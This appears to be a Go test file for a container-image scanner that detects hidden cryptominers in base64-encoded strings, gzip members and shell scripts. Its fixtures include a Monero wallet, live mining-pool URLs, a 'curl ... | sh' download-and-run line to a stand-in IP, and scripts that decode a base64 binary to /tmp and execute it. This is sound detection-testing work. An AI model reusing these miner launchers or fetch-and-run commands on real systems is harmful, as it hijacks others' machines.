package hierarchical

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/strata-sec/strata/internal/layers"
)

const testWallet = "44vjAVKLTFc7jxTv5ij1ifCv2YCFe3bpTgcRyR6uKg84iyFhrCesstmWNUppRCrxCsMorTP8QKxMrD3QfgQ41zsqMgPaXY5"

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// Real benign base64 from the benign corpus (corpus/benign/images/
// cloudinit-base64/Dockerfile): a cloud-init style user_data script run at
// build time, and a JSON config passed in the environment.
const (
	benignUserData  = "IyEvYmluL3NoCiMgcHJvdmlzaW9uaW5nICh1c2VyX2RhdGEpOiBjcmVhdGUgdGhlIHNlcnZpY2UgYWNjb3VudCBhbmQgaXRzIGRpcmVjdG9yaWVzCnNldCAtZXUKdXNlcmFkZCAtLXN5c3RlbSAtLWhvbWUtZGlyIC92YXIvbGliL2FwcCAtLWNyZWF0ZS1ob21lIGFwcAppbnN0YWxsIC1kIC1vIGFwcCAtZyBhcHAgLW0gMDc1MCAvdmFyL2xpYi9hcHAvc3RhdGUgL3Zhci9sb2cvYXBwCmluc3RhbGwgLWQgLW0gMDc1NSAvZXRjL2FwcAplY2hvICdQcm92aXNpb25lZCBieSB1c2VyX2RhdGEgKHJvbGU6IGFwaSwgZW52OiBzdGFnaW5nKScgPiAvZXRjL21vdGQK"
	benignConfigB64 = "eyJsaXN0ZW4iOiI6ODA4MCIsImxvZ19sZXZlbCI6ImluZm8iLCJkYiI6eyJob3N0IjoiZGIiLCJwb3J0Ijo1NDMyLCJuYW1lIjoiYXBwIn0sImZlYXR1cmVzIjpbIm1ldHJpY3MiLCJhdWRpdCJdfQ=="
)

func TestBase64Hits(t *testing.T) {
	pool := "stratum+tcp://pool.supportxmr.com:3333"
	tests := []struct {
		name  string
		text  string
		rules []string // rules that must fire (all with the base64-decoded prefix); none: nothing may
	}{
		{"pool URL as a literal", "POOL=" + b64(pool), []string{RuleStratumURL, RulePoolDomain}},
		{"miner command line", "echo " + b64("./kworker -o "+pool+" -u "+testWallet+" --donate-level 1") + " | base64 -d | sh",
			[]string{RuleStratumURL, RuleMoneroWallet, RuleMinerOptions}},
		{"no padding, in an argument", "--cfg=" + strings.TrimRight(b64("xmrig -o pool.hashvault.pro:443 --tls"), "="), []string{RulePoolDomain, RuleRunMiner}},
		{"nested base64", "X=" + b64("echo "+b64("curl -s http://203.0.113.9/x | sh; /tmp/x -o "+pool)+" | base64 -d | sh"), []string{RuleStratumURL, RuleDownloadPipeShell}},
		// Negatives: real benign base64.
		{"cloud-init user_data script", "echo '" + benignUserData + "' | base64 -d | sh", nil},
		{"JSON config in ENV", "APP_CONFIG_B64=" + benignConfigB64, nil},
		{"PNG data URI", `img="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="`, nil},
		{"paths are base64 alphabet", "cp /usr/share/doc/package/changelog /usr/local/share/something/else", nil},
		{"encoded text without network indicators", "MSG=" + b64("hello world, this is a perfectly normal message"), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hits := base64Hits(tt.text)
			got := map[string]bool{}
			for _, h := range hits {
				got[h.rule] = true
				if !strings.HasPrefix(h.evidence, "base64-decoded: ") {
					t.Errorf("evidence %q lacks the base64-decoded prefix", h.evidence)
				}
			}
			for _, r := range tt.rules {
				if !got[r] {
					t.Errorf("rule %s did not fire; hits %+v", r, hits)
				}
			}
			if tt.rules == nil && len(hits) > 0 {
				t.Errorf("hits on benign base64: %+v", hits)
			}
		})
	}
}

func gz(t testing.TB, name string, b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Name = name
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestGzipMembers(t *testing.T) {
	miner := elfWithStrings(t, "mining.subscribe", "mining.authorize", "XMRig/%s")
	tests := []struct {
		name  string
		path  string
		body  func(t *testing.T) []byte
		rules []string // must fire, evidence naming the member
		none  bool     // nothing may fire
	}{
		{"ELF inside .gz", "var/tmp/.cache/data.gz", func(t *testing.T) []byte { return gz(t, "", miner) },
			[]string{RuleELFStratum, RuleELFMinerAgent}, false},
		{"miner name from the gzip header", "var/tmp/blob.gz", func(t *testing.T) []byte { return gz(t, "xmrig", miner) },
			[]string{RuleMinerBinary, RuleELFStratum}, false},
		{"script inside .gz", "opt/init.sh.gz", func(t *testing.T) []byte {
			return gz(t, "", []byte("#!/bin/sh\nnohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 &\n"))
		}, []string{RuleRunMiner, RuleStratumURL}, false},
		{"payload in the second member", "opt/start.sh.gz", func(t *testing.T) []byte {
			first := gz(t, "start.sh", []byte("#!/bin/sh\necho starting\n"))
			return append(first, gz(t, "", []byte("nohup ./kworker -o stratum+tcp://198.51.100.7:3333 &\n"))...)
		}, []string{RuleStratumURL, RuleBackgroundMiner}, false},
		{"ELF in a documentation .gz still analysed", "usr/share/doc/x/changelog.gz", func(t *testing.T) []byte { return gz(t, "", miner) },
			[]string{RuleELFStratum}, false},
		// Negatives: real compressed content of this machine.
		{"gzip of /bin/ls", "opt/ls.gz", func(t *testing.T) []byte { return gz(t, "ls", machineBytes(t, "/bin/ls")) }, nil, true},
		{"tar.gz archive", "opt/src.tar.gz", func(t *testing.T) []byte {
			return gz(t, "", append([]byte("README\x00\x00\x00\x00000644 \x00"), bytes.Repeat([]byte{0}, 1000)...))
		}, nil, true},
		{"corrupt gzip", "opt/x.gz", func(t *testing.T) []byte {
			b := gz(t, "", miner)
			return b[:len(b)/2]
		}, nil, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fr := analyzeBytes(t, tt.path, 0o644, tt.body(t))
			for _, r := range tt.rules {
				if r == RuleMinerBinary {
					if !strings.Contains(fr.minerBinary, "(gzip)") {
						t.Errorf("miner-binary = %q, want a gzip member", fr.minerBinary)
					}
					continue
				}
				h, ok := hitOf(fr, r)
				if !ok || !strings.HasPrefix(h.evidence, "/"+tt.path) || !strings.Contains(h.evidence, " (gzip): ") {
					t.Errorf("rule %s: %+v (hits %+v)", r, h, fr.hits)
				}
			}
			if tt.none && (len(fr.hits) > 0 || fr.minerBinary != "") {
				t.Errorf("findings on benign gzip: %+v %q", fr.hits, fr.minerBinary)
			}
			if len(tt.rules) > 0 && (len(fr.digests) != 1 || !strings.HasPrefix(fr.digests[0].what, "gzip")) {
				t.Errorf("digests %+v, want the member's", fr.digests)
			}
		})
	}
}

// TestGzipDocsOfThisMachine: Debian's compressed changelogs and man pages
// (text) are not analysed and produce nothing.
func TestGzipDocsOfThisMachine(t *testing.T) {
	files, _ := filepath.Glob("/usr/share/doc/*/changelog.Debian.gz")
	man, _ := filepath.Glob("/usr/share/man/man1/*.gz")
	files = append(files[:min(len(files), 100)], man[:min(len(man), 100)]...)
	if len(files) == 0 {
		t.Skip("no compressed docs on this machine")
	}
	for _, p := range files {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		fr := analyzeBytes(t, strings.TrimPrefix(p, "/"), 0o644, b)
		if len(fr.hits) > 0 || fr.minerBinary != "" || len(fr.digests) > 0 {
			t.Errorf("%s: %+v", p, fr)
		}
	}
}

// TestGzipBomb: inflation stops at the budget and says so; a compressed
// log well under the budget is read whole and reports nothing.
func TestGzipBomb(t *testing.T) {
	b := gz(t, "", append([]byte("#!/bin/sh\n"), bytes.Repeat([]byte("# padding\n"), 1<<20)...)) // 10 MiB of text
	e := &layers.Entry{Path: "opt/run.sh.gz", Type: layers.TypeFile, Mode: 0o644, Size: int64(len(b))}
	fr, err := analyzeFile(e, bytes.NewReader(b), fileOpts{maxScriptBytes: DefaultMaxScriptBytes, unpack: unpackLimits{work: 4 << 20}})
	if err != nil {
		t.Fatal(err)
	}
	h, ok := hitOf(fr, RuleArchiveNotScanned)
	if !ok || !strings.Contains(h.evidence, "inflate budget of 4194304 bytes") || !strings.HasPrefix(h.evidence, "/opt/run.sh.gz") {
		t.Errorf("no archive-not-scanned finding for the cut member: %+v", fr.hits)
	}
	log := gz(t, "", bytes.Repeat([]byte("127.0.0.1 - - GET /index.html 200\n"), 1<<18))
	e = &layers.Entry{Path: "var/log/nginx/access.log.1.gz", Type: layers.TypeFile, Mode: 0o644, Size: int64(len(log))}
	if fr, err = analyzeFile(e, bytes.NewReader(log), fileOpts{maxScriptBytes: DefaultMaxScriptBytes}); err != nil || len(fr.hits) > 0 {
		t.Errorf("compressed log: %+v, %v", fr.hits, err)
	}
}

func TestScriptRuns(t *testing.T) {
	tests := []struct {
		name  string
		src   string
		progs []string
		dirs  []string
	}{
		{"variable and restart loop", "#!/bin/sh\nDIR=/opt/.cache\nBIN=/usr/local/bin/kworkerd\ncd \"$DIR\" || exit 1\nwhile true; do\n nohup \"$BIN\" --config=\"$DIR/config.json\" >/dev/null 2>&1\n sleep 30\ndone\n",
			[]string{"/usr/local/bin/kworkerd"}, []string{"/opt/.cache"}},
		{"exec of a relative program", "#!/bin/sh\ncd /srv/app\nexec ./server --port 80\n", []string{"./server"}, []string{"/srv/app"}},
		{"script directory", "#!/bin/bash\nHERE=\"$(cd \"$(dirname \"$0\")\" && pwd)\"\n\"$HERE/bin/helper\" -q\n$(dirname $0)/other\n",
			[]string{scriptDirMarker + "/bin/helper", scriptDirMarker + "/other"}, []string{scriptDirMarker}},
		{"sh runs a script", "sh /opt/stage2.sh\nbash -x /opt/stage3.sh\n", []string{"/opt/stage2.sh", "/opt/stage3.sh"}, nil},
		{"unknown variables are left for the config's ENV", "exec \"$@\"\n\"$UNSET\" x\n", []string{envMarker + "UNSET" + envMarker}, nil},
		{"default values", "exec ${BIN:-/opt/x/run} -c cfg\n", []string{"/opt/x/run"}, nil},
		{"loop values", "for b in /opt/a /opt/b; do $b & done\n", []string{"/opt/a", "/opt/b"}, nil},
		{"export assignment", "export APP=/usr/bin/app\nsetsid $APP &\n", []string{"/usr/bin/app"}, nil},
		{"builtins are skipped", "set -e\necho hi\ntest -f x\nsysctl -w vm.nr_hugepages=1\n", []string{"sysctl"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := scriptRunsOf(parseShell(tt.src))
			if !reflect.DeepEqual(got.progs, tt.progs) || !reflect.DeepEqual(got.dirs, tt.dirs) {
				t.Errorf("runs = %q dirs %q, want %q dirs %q", got.progs, got.dirs, tt.progs, tt.dirs)
			}
		})
	}
}

// TestFileResultEncoding: every field survives the cache encoding, and
// damaged records are refused.
func TestFileResultEncoding(t *testing.T) {
	fr := fileResult{
		minerBinary: "usr/bin/xmrig (mode -rwxr-xr-x, 10 bytes)",
		hits:        []hit{{RuleStratumURL, "stratum+tcp://x:1"}, {RuleELFPacked, "packed"}},
		digests:     []fileDigest{{"", "aa", "bb"}, {"gzip", "", "cc"}},
		runs:        scriptRuns{progs: []string{"/x", scriptDirMarker + "/y"}, dirs: []string{"/opt"}},
	}
	got, err := decodeFileResult(fr.encode())
	if err != nil || !reflect.DeepEqual(got, fr) {
		t.Fatalf("round trip: %+v, %v", got, err)
	}
	if b := (fileResult{}).encode(); b != nil {
		t.Errorf("empty result encodes to %q", b)
	}
	enc := fr.encode()
	for _, bad := range [][]byte{enc[:len(enc)-1], append([]byte{'z', 1, 0}, enc...), {'h', 2, 3, 'x', 'y', 'z', 0}} {
		if _, err := decodeFileResult(bad); err == nil {
			t.Errorf("decode(%q) accepted", bad)
		}
	}
}

// TestBase64Files: a program or archive carried base64-encoded in a script
// is analysed as a file of its own; a base64 image or random bytes are not.
func TestBase64Files(t *testing.T) {
	miner := elfWithStrings(t, "stratum+tcp://pool.supportxmr.com:3333", "mining.subscribe", "mining.authorize", "mining.notify")
	enc := func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
	gz := func(b []byte) []byte {
		var buf bytes.Buffer
		w := gzip.NewWriter(&buf)
		w.Write(b)
		w.Close()
		return buf.Bytes()
	}
	rnd := make([]byte, 4096)
	for i := range rnd {
		rnd[i] = byte(i*7919 + i/13)
	}
	png := append([]byte("\x89PNG\r\n\x1a\n"), rnd...)
	tests := []struct {
		name, script string
		rule         string
		want         bool
	}{
		{"ELF miner in a heredoc variable", "#!/bin/sh\nP='" + enc(miner) + "'\necho \"$P\" | base64 -d > /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x\n", RuleELFStratum, true},
		{"gzip-compressed miner", "#!/bin/sh\necho " + enc(gz(miner)) + " | base64 -d | gunzip > /tmp/k; chmod +x /tmp/k; /tmp/k\n", RuleELFStratum, true},
		{"base64 PNG in a script", "#!/bin/sh\necho " + enc(png) + " | base64 -d > /srv/logo.png\n", RuleELFStratum, false},
		{"base64 random bytes", "#!/bin/sh\nKEY=" + enc(rnd) + "\n", RuleNotScanned, false},
		{"short base64 ELF header only", "#!/bin/sh\necho " + enc(miner[:64]) + "\n", RuleELFStratum, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fr := analyzeBytes(t, "opt/start.sh", 0o755, []byte(tt.script))
			h, ok := hitOf(fr, tt.rule)
			if ok != tt.want {
				t.Fatalf("%s fired = %v, want %v; hits %+v", tt.rule, ok, tt.want, fr.hits)
			}
			if ok && !strings.Contains(h.evidence, "base64[1]") {
				t.Errorf("evidence %q does not name the decoded file", h.evidence)
			}
		})
	}
}
